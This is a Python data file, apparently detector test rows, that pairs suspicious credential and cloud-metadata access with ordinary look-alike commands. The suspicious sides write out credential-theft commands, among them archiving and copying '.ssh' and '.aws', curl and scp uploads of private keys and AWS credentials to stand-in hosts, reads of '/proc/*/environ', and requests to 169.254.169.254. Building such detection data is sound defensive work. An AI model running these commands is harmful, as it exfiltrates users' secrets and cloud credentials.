"""Reads of credentials and of metadata endpoints, each with an ordinary act that resembles it."""

from __future__ import annotations

from support.behaviours.acts import (
    AUDIT,
    FILE,
    KERNEL,
    NETWORK,
    PROCESS,
    SWEEP,
    Row,
    changed,
    connected,
    opened,
    ran,
    read,
)

CREDENTIALS: list[Row] = [
    (
        "credential_read_by_foreign_program",
        FILE,
        read("aws", ".aws/credentials", "cat .aws/credentials"),
        read("aws", ".aws/credentials", "aws s3 ls", own=True),
    ),
    (
        "credential_read_by_foreign_program",
        FILE,
        read("ssh", ".ssh/id_rsa", "/home/u/a.out"),
        read("ssh", ".ssh/id_rsa", "ssh host", own=True),
    ),
    (
        "credential_read_by_foreign_program",
        FILE,
        read("ssh", ".ssh/id_rsa", "grep -rl PRIVATE KEY----- /home/u"),
        read("ssh", ".ssh/id_rsa", "grep -rn todo ."),
    ),
    (
        "credential_read_by_foreign_program",
        FILE,
        read("kaggle", ".kaggle/kaggle.json", "sqlite3 :memory: select 1"),
        read("aws", ".aws/credentials", "vim .aws/credentials"),
    ),
    (
        "credential_read_by_foreign_program",
        FILE,
        read("git", ".git-credentials", "tclsh x.tcl"),
        read("git", ".git-credentials", "git fetch", image="/opt/conda/bin/git"),
    ),
    (
        "environ_named_by_command",
        PROCESS,
        ran("cat /proc/1/environ /proc/417/environ /proc/9/environ"),
        ran("cat /proc/417/environ"),
    ),
    (
        "credential_read_by_look_alike",
        FILE,
        read("npm", ".npmrc", "node npm ci", image="/opt/conda/bin/node"),
        read("npm", ".npmrc", "node npm ci", own=True),
    ),
    (
        "secret_file_read_by_program",
        FILE,
        read("environment", "project/.env", "cat .env"),
        read("environment", "project/.env", "python3 app.py", own=None),
    ),
    (
        "credential_settings_read",
        FILE,
        read("aws", ".aws/config", "cat .aws/config"),
        read("aws", ".aws/config", "aws configure list", own=True),
    ),
    (
        "credential_read_by_code",
        FILE,
        read("github", ".config/gh/hosts.yml", "python3 x.py", own=None),
        read("aws", ".aws/credentials", "python3 train.py", own=None),
    ),
    (
        "credential_read_maybe_by_sdk",
        FILE,
        read("pypi", ".pypirc", "python3 x.py", own=None),
        read("pypi", ".pypirc", "python3 -m twine upload", own=True),
    ),
    (
        "credential_read_by_unknown",
        FILE,
        changed("aws", ".aws/credentials", "read"),
        changed("aws", ".aws/config", "read"),
    ),
    ("credential_printed_by_command", PROCESS, ran("base64 /home/u/.docker/config.json"), ran("cat /home/u/.bashrc")),
    ("credential_printed_by_command", PROCESS, ran("cat .ssh/id_ed25519"), ran("cat /home/u/.ssh/id_ed25519.pub")),
    (
        "credential_archived_or_copied",
        PROCESS,
        ran("tar czf x.tgz -C /home/u .ssh .aws"),
        ran("tar czf project.tgz project"),
    ),
    (
        "credential_archived_or_copied",
        PROCESS,
        ran("cp -r /home/u/.ssh /tmp/x"),
        ran("cp kaggle.json /home/u/.kaggle/kaggle.json"),
    ),
    (
        "credential_uploaded",
        PROCESS,
        ran("curl -s --data-binary @/home/u/.aws/credentials http://127.0.0.1/up"),
        ran("curl --netrc-file /home/u/.netrc -d @body.json https://api.example.com"),
    ),
    (
        "credential_uploaded",
        PROCESS,
        ran("scp .ssh/id_rsa me@host:x"),
        ran("scp -i /home/u/.ssh/id_rsa data.csv me@host:x"),
    ),
    (
        "credential_opened_by_cell",
        AUDIT,
        opened("/home/u/.aws/credentials", "user"),
        opened("/home/u/.aws/credentials", "botocore"),
    ),
    (
        "credential_opened_by_cell",
        AUDIT,
        opened("/home/u/.ssh/id_rsa", "user"),
        opened("/home/u/.ssh/id_rsa.pub", "user"),
    ),
    (
        "jupyter_server_token_read",
        FILE,
        read("jupyter-runtime", ".local/share/jupyter/runtime/jpserver-7.json", "python3 x.py", own=None),
        read("jupyter-runtime", ".local/share/jupyter/runtime/jpserver-7.json", "jupyter-lab", own=True),
    ),
    (
        "credential_read_by_kernel_or_script",
        FILE,
        read("aws", ".aws/credentials", KERNEL, own=None),
        read("aws", ".aws/credentials", "aws s3 ls", own=True),
    ),
    ("environ_sweep", SWEEP, {"Decoys": 3, "Candidates": 1}, {"Decoys": 0, "Candidates": 1}),
    *(
        (
            "environ_sweep",
            SWEEP,
            {"Decoys": 1, "CandidateCommandLine": ["ls", attack]},
            {"Decoys": 1, "CandidateCommandLine": ["ls", ordinary]},
        )
        for attack, ordinary in (("ps auxe", "ps aux"), ("/bin/ps e -p 7", "/bin/ps -ef"), ("cat x", "ps -o pid,etime"))
    ),
    (
        "environ_sweep_beside_ps",
        SWEEP,
        {"Decoys": 1, "CandidateCommandLine": ["ps ax"]},
        {"Decoys": 0, "CandidateCommandLine": ["ps ax"]},
    ),
]
METADATA: list[Row] = [
    *(
        ("metadata_by_foreign_program", NETWORK, connected(line, ip), connected("aws s3 ls", ip))
        for ip in ("169.254.169.254", "169.254.170.2", "169.254.170.23", "fd00:ec2::254", "fd00:ec2::23")
        for line in ("curl -s http://x", "busybox wget -qO- http://x", "bash -c x", "perl x.pl", "/home/u/a.out")
    ),
    (
        "metadata_by_foreign_program",
        NETWORK,
        connected("python3 -c from urllib.request import urlopen; urlopen(x)", "169.254.170.2"),
        connected("python3 -c import boto3; boto3.client('s3')", "169.254.170.2"),
    ),
    (
        "metadata_by_program",
        NETWORK,
        connected("python3 x.py", "169.254.169.254"),
        connected("python3 x.py", "169.254.1.1"),
    ),
    (
        "instance_metadata_by_kernel",
        NETWORK,
        connected(KERNEL, "169.254.169.254"),
        connected(KERNEL, "169.254.170.2"),
    ),
    (
        "container_credentials_by_kernel",
        NETWORK,
        connected(KERNEL, "169.254.170.2"),
        connected(KERNEL, "10.0.0.2"),
    ),
    (
        "metadata_by_cell",
        AUDIT,
        {**ran(KERNEL), "AuditEvent": "socket.connect", "AuditAddress": "169.254.170.2:80", "AuditBy": "user"},
        {**ran(KERNEL), "AuditEvent": "socket.connect", "AuditAddress": "169.254.170.2:80", "AuditBy": "botocore"},
    ),
    (
        "metadata_by_cell",
        AUDIT,
        {**ran(KERNEL), "AuditEvent": "socket.connect", "AuditAddress": "[fd00:ec2::254]:80", "AuditBy": "requests"},
        {**ran(KERNEL), "AuditEvent": "socket.connect", "AuditAddress": "203.0.113.9:80", "AuditBy": "user"},
    ),
]
